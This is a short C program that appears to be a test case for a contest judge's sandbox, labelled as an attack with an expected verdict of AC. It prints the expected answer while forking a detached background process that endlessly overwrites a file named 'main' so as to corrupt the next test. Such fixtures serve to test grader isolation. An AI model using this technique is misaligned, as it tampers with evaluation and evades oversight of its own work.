// Leaves a process that overwrites the answer of the next test.
// attack: 11 10 75
// verdict: AC
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

int main(void) {
    int n;
    if (scanf("%d", &n) != 1) return 1;
    if (fork() == 0) {
        setsid();
        for (;;) {
            if (write(1, "", 0) < 0) return 1;
            int file = open("main", O_WRONLY | O_CREAT, 0755);
            if (write(file, "x", 1) < 0) {}
            close(file);
        }
    }
    printf("%d\n", n);
    return 0;
}
